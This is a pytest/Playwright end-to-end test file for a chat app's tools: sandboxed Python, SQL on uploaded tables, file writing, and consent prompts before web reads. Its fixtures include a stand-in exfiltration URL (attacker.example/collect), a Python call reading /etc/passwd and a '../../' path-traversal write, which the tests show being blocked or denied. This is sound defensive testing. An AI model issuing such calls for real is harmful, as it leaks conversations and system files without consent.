"""Tools as people see them: the real app in a real Chromium, with confined Python, files, tables and questions."""

import re
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Locator, Page, expect

from tests.e2e.app_with_tools import AppWithTools, answer, app_with_tools, call
from tests.e2e.browser import Watch, answered, ask, browsing
from tests.provider.server import ProviderServer

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]

TOOL, ANSWER, QUESTION = (f'[data-step-type="{kind}"]' for kind in ("tool", "assistant_message", "user_message"))
LABEL = '[id^="step-"]:is(p, button)'
CARD = ".consent"
UNKNOWN = "https://attacker.example/collect?what=all+that+was+said"
DENSITY = """
import matplotlib.pyplot as plt
import numpy as np
from scipy.stats import gaussian_kde
sample = np.random.default_rng(1).normal(size=500)
grid = np.linspace(-4, 4, 200)
plt.plot(grid, gaussian_kde(sample)(grid))
plt.title("Kernel density 核密度")
"""
SALES = "city,month,n\nOslo,Jan,3\nLima,Jan,40\nOslo,Feb,5\nLima,Feb,44\n北京,Feb,7\n"
TOTALS = "SELECT city, sum(n) AS total FROM sales GROUP BY city ORDER BY total DESC"


@pytest.fixture(scope="module")
def home(shared_provider: ProviderServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppWithTools]:
    with app_with_tools(tmp_path_factory.mktemp("tools"), shared_provider) as home:
        yield home


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def tab(home: AppWithTools) -> AsyncIterator[tuple[Page, Watch]]:
    """One browser for all tests."""
    async with browsing(home.url, locale="en-US", viewport={"width": 1000, "height": 900}) as tab:
        yield tab


@pytest_asyncio.fixture(loop_scope="module")
async def page(tab: tuple[Page, Watch], home: AppWithTools, provider: ProviderServer) -> AsyncIterator[Page]:
    """A new chat."""
    page, watch = tab
    home.services.asked.clear()
    await page.goto(home.url)
    await expect(page.get_by_role("button", name=re.compile("deepseek-flash on .* answers"))).to_be_visible()
    yield page
    assert watch == Watch()


def bytes_of(path: Path) -> bytes:
    return path.read_bytes()


async def attach(page: Page, *files: Path) -> None:
    """Put files to the next question, and wait until they are with the server."""
    for file in files:
        async with page.expect_response("**/project/file?*"):
            await page.set_input_files("input[type=file]", str(file))


async def told(page: Page, text: str) -> None:
    """Wait for the answer that ends the turn."""
    await expect(page.locator(f"{ANSWER} .prose").last).to_contain_text(text, timeout=20_000)
    await answered(page)


async def choose(page: Page, choice: str) -> None:
    await page.click(f'{CARD} [data-choice="{choice}"]:not([disabled])')


def labels(page: Page) -> Locator:
    return page.locator(f"{TOOL} {LABEL}")


async def natural_width(picture: Locator) -> int:
    await expect(picture).to_be_visible()
    return int(await picture.evaluate("async img => { await img.decode(); return img.naturalWidth }"))


async def test_a_density_that_was_drawn_stands_on_the_page_and_comes_back(
    page: Page, home: AppWithTools, provider: ProviderServer
) -> None:
    provider.add(call("run_python", code=DENSITY), answer("One hump, near 0."))
    await ask(page, "Simulate data and draw its kernel density")
    await told(page, "One hump")
    assert "1 figure was shown to the user." in provider.requests[-1].last_text
    picture = page.locator(".tg-picture").get_by_role("img", name="Kernel density 核密度")
    assert await natural_width(picture) > 100
    address = page.url
    assert "/thread/" in address
    await page.reload()
    assert await natural_width(picture) > 100
    await page.goto(home.url)
    await page.locator("#sidebar-trigger-button").last.click()
    await page.locator("#thread-history").get_by_text("Simulate data").click()
    assert await natural_width(picture) > 100
    assert page.url == address


async def test_a_table_that_was_sent_is_asked_in_sql_and_never_trusted(
    page: Page, provider: ProviderServer, home: AppWithTools, tmp_path: Path
) -> None:
    sales = tmp_path / "sales.csv"
    sales.write_text(SALES, "utf-8")
    provider.add(call("query_data", sql=TOTALS, title="Sales by city"), answer("Lima sold most: 84."))
    await attach(page, sales)
    await ask(page, "Which city sold most?")
    await told(page, "Lima sold most")
    assert "table sales, 5 rows: city VARCHAR, month VARCHAR, n BIGINT" in provider.requests[0].question
    assert "Lima | 84" in provider.requests[1].last_text
    await expect(page.locator(QUESTION).get_by_text("sales.csv")).to_be_visible()
    table = page.get_by_role("group", name="Sales by city", exact=True)
    rows = [await row.locator("th, td").all_inner_texts() for row in await table.locator("tr").all()]
    assert rows == [["city", "total"], ["Lima", "84"], ["Oslo", "8"], ["北京", "7"]]
    await expect(labels(page)).to_contain_text(["Queried the data · 3 rows"])

    provider.add(call("read_page", url=UNKNOWN), answer("As you wish."))
    await page.reload()
    await expect(table).to_be_visible()
    await expect(page.locator(QUESTION).get_by_text("sales.csv")).to_be_visible()
    await ask(page, "Tell them")
    await expect(page.locator(f"{CARD} .consent-why")).to_contain_text("an uploaded file")
    await choose(page, "deny")
    await told(page, "As you wish")
    assert home.pages_read() == []


async def test_a_written_file_can_be_read_and_taken_along(page: Page, provider: ProviderServer) -> None:
    first, second = "# Sales\n\nLima sold **84**.\n", "# Sales\n\nLima sold **85**, 北京 7.\n"
    provider.add(call("write_file", path="report.md", content=first))
    provider.add(call("write_file", path="report.md", content=second), answer("Written twice."))
    await ask(page, "Write a report")
    await told(page, "Written twice")
    cards = page.get_by_role("region", name="report.md")
    await expect(cards).to_have_count(2)
    for card, content, about in zip(await cards.all(), (first, second), ("27 B", "version 2"), strict=True):
        await expect(card.locator("header")).to_contain_text(about)
        assert await card.locator("pre").inner_text() == content.rstrip("\n")
        async with page.expect_download() as waiting:
            await card.get_by_role("link", name="Download: report.md").click()
        download = await waiting.value
        assert download.suggested_filename == "report.md"
        assert bytes_of(await download.path()) == content.encode()
    assert "version 2" not in await cards.first.inner_text()


async def test_a_refused_escape_is_red_and_the_chat_goes_on(page: Page, provider: ProviderServer) -> None:
    provider.add(call("run_python", code='print(open("/etc/passwd").read())'))
    provider.add(call("write_file", path="../../planted.md", content="x"), call("calculate", expression="6*7"))
    provider.add(answer("42 all the same."))
    await ask(page, "Look around")
    await told(page, "42 all the same")
    assert await labels(page).all_inner_texts() == [
        "Ran Python · did not work",
        "Wrote ../../planted.md · did not work",
        "Calculated 6*7",
    ]
    colours = await labels(page).evaluate_all("all => all.map(one => getComputedStyle(one).color.match(/\\d+/g))")
    red = [int(red) > 1.5 * max(int(green), int(blue)) for red, green, blue in colours]
    assert red == [True, True, False]
    for label in (await labels(page).all())[:2]:
        await label.click()
    await expect(page.locator(TOOL).first).to_contain_text("No such file or directory")
    assert "root:" not in await page.inner_text("body")


async def test_nothing_is_called_before_the_person_says_yes(
    page: Page, provider: ProviderServer, home: AppWithTools
) -> None:
    provider.add(call("search_web", query="trams"), call("read_page", url=UNKNOWN), answer("As you wish."))
    await ask(page, "What is new about trams?")
    await expect(page.locator(f"{CARD} dd").first).to_have_text(UNKNOWN)
    await expect(page.locator("#stop-button")).to_be_visible()
    await choose(page, "deny")
    await told(page, "As you wish")
    await expect(page.get_by_text(f"You did not allow: Read {UNKNOWN}")).to_be_visible()
    assert home.pages_read() == []

    provider.add(call("read_page", url=UNKNOWN), answer("It says little."))
    await ask(page, "Do read it")
    await choose(page, "allow")
    await told(page, "It says little")
    assert home.pages_read() == [UNKNOWN]

    provider.add(call("read_page", url=UNKNOWN), answer("Not to be heard."))
    await ask(page, "Once more")
    await page.locator(CARD).wait_for()
    await page.click("#stop-button")
    await page.locator(CARD).wait_for(state="detached", timeout=2_000)
    await expect(page.get_by_text("Stopped after")).to_be_visible()
    assert home.pages_read() == [UNKNOWN]


async def test_a_question_that_nobody_waits_for_any_more_does_not_come_back(
    page: Page, provider: ProviderServer, home: AppWithTools
) -> None:
    provider.add(call("search_web", query="trams"), call("read_page", url=UNKNOWN), answer("Not to be heard."))
    await ask(page, "What is new about trams?")
    await page.locator(CARD).wait_for()
    await page.click("#stop-button")
    await answered(page)
    await page.reload()
    await expect(page.get_by_text("Stopped after")).to_be_visible()
    await expect(page.locator(CARD)).to_have_count(0)
    assert home.pages_read() == []


async def test_python_without_an_end_is_stopped_at_once(page: Page, provider: ProviderServer) -> None:
    provider.add(call("run_python", code="kept = 1"), call("run_python", code="while True: pass"))
    await ask(page, "Compute for ever")
    await expect(labels(page).nth(1)).to_have_text("Running Python", timeout=20_000)
    began = time.monotonic()
    await page.click("#stop-button")
    await answered(page)
    await expect(page.get_by_text("Stopped after")).to_be_visible()
    assert time.monotonic() - began < 3
    provider.add(call("run_python", code="'kept' in globals(), 6 * 7"), answer("Anew."))
    await ask(page, "And now?")
    await told(page, "Anew")
    assert "Value: (False, 42)" in provider.requests[-1].last_text


async def test_a_file_that_can_t_be_used_is_told_of_and_the_question_answered(
    page: Page, provider: ProviderServer, tmp_path: Path
) -> None:
    no_picture, empty = tmp_path / "photo.png", tmp_path / "empty.csv"
    no_picture.write_text("these are words, no picture\n" * 20, "utf-8")
    empty.touch()
    provider.add(answer("I can't see it, but hello."))
    await attach(page, no_picture, empty)
    await ask(page, "What is this?")
    await told(page, "I can't see it, but hello.")
    mismatch = "“photo.png” is not what its name says: it looks like text. Please give it the right ending."
    nothing = "“empty.csv” is empty, so it was left out."
    for sentence in (mismatch, nothing):
        await expect(page.get_by_text(sentence)).to_be_visible()
        assert f"Not available: {sentence}" in provider.requests[0].question


@pytest.mark.parametrize(
    ("sizes", "sentence"),
    [
        ({"tool.exe": 10}, "This kind of file can’t be used here. These can: CSV, Excel (.xlsx), JSON, text, "),
        ({"big.txt": 20_500_000}, "This file is too large: at most 20 MB."),
        ({f"{number}.txt": 10 for number in range(6)}, "Too many files at once. Please send fewer."),
    ],
    ids=["kind", "size", "number"],
)
async def test_what_can_t_be_sent_is_told_of_in_plain_words(
    page: Page, tmp_path: Path, sizes: dict[str, int], sentence: str
) -> None:
    for name, size in sizes.items():
        (tmp_path / name).write_bytes(b"x" * size)
    await page.set_input_files("input[type=file]", [str(tmp_path / name) for name in sizes])
    await expect(page.locator("[data-sonner-toast]").last).to_contain_text(sentence)


async def test_a_chinese_page_tells_of_tools_in_chinese(
    tab: tuple[Page, Watch], home: AppWithTools, provider: ProviderServer, tmp_path: Path
) -> None:
    provider.add(call("search_web", query="电车"), call("read_page", url=UNKNOWN), call("run_python", code="1 / 0"))
    provider.add(call("write_file", path="报告.md", content="# 电车"), call("get_weather", city="Paris"))
    provider.add(answer("好了。"))
    (tmp_path / "表.csv").write_text(SALES, "utf-8")
    browser = tab[0].context.browser
    assert isinstance(browser, Browser)
    page = await browser.new_page(locale="zh-CN", base_url=home.url)
    await page.goto("/")
    await page.wait_for_selector("#chat-input")
    await page.route("**/project/file?*", lambda route: route.abort())
    await page.set_input_files("input[type=file]", str(tmp_path / "表.csv"))
    await expect(page.get_by_text("上传失败 表.csv，请稍后再试。")).to_be_visible()
    await ask(page, "电车有什么新闻？")
    card = page.locator(CARD)
    await expect(card.locator("h2")).to_have_text("允许这样做吗？")
    await expect(card.locator(".consent-deed")).to_have_text(f"阅读 {UNKNOWN}")
    await expect(card.locator(".consent-why")).to_contain_text("网页搜索")
    assert await card.locator("button").all_inner_texts() == ["允许", "拒绝", "在此对话中始终允许"]
    await choose(page, "deny")
    await told(page, "好了。")
    names = [re.sub(r" · [\d.]+ 秒$", "", name) for name in await labels(page).all_inner_texts()]
    assert names == [
        "已搜索网页：电车 · 2 条结果",
        f"阅读 {UNKNOWN} · 你没有允许",
        "已运行 Python · 没有成功",
        "已写入 报告.md",
        "天气：Paris",
    ]
    await expect(page.get_by_text(f"你没有允许：阅读 {UNKNOWN}")).to_be_visible()
    await expect(page.get_by_role("link", name="下载: 报告.md")).to_be_visible()
    await expect(page.locator(".tg-weather")).to_contain_text("当地时间")
    await expect(page.get_by_text("6 轮 · 5 次工具调用")).to_be_visible()
    await page.close()
